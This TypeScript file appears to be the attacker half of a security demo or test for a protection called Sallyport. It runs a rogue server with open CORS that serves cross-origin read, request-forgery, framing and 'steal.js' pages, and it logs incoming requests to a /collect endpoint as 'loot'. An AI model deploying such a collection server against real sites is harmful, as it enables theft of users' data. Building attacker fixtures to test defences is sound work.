import { createServer } from 'node:http'
import { topology } from '../topology.ts'
import { forge, frame, read, rogue, steal } from './pages.ts'

// Somebody else's server, on purpose without Sallyport: it answers any host name, shares everything with everyone, and keeps what it gets.
const loot: string[] = []
const pixel = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'
const html = 'text/html; charset=utf-8'
const answers: Readonly<Record<string, readonly [type: string, body: () => string]>> = {
  '/': [html, rogue],
  '/read': [html, () => read(topology.origins)],
  '/forge': [html, () => forge(topology.origins)],
  '/frame': [html, () => frame(topology.origins)],
  '/steal.js': ['text/javascript', steal],
  '/loot': ['application/json', () => JSON.stringify(loot)],
}

const server = createServer((request, response) => {
  const { pathname } = new URL(request.url ?? '/', topology.attacker)
  response.setHeader('access-control-allow-origin', '*')
  response.setHeader('cache-control', 'no-store')
  if (pathname === '/collect') {
    if (loot.length < 100)
      loot.push(`${request.method} ${request.url} from ${request.headers.origin ?? 'somewhere'}`.slice(0, 300))
    // A picture must be one to load, and a form must land on a page that can tell.
    if (request.url?.includes('by=image')) response.setHeader('content-type', 'image/svg+xml').end(pixel)
    else response.setHeader('content-type', html).end(rogue())
    return
  }
  const [type, body] = answers[pathname] ?? ['text/plain', () => 'Nothing here.']
  response.setHeader('content-type', type).end(body())
})

const { host, port } = topology.listen('attacker')
server.listen(port, host)
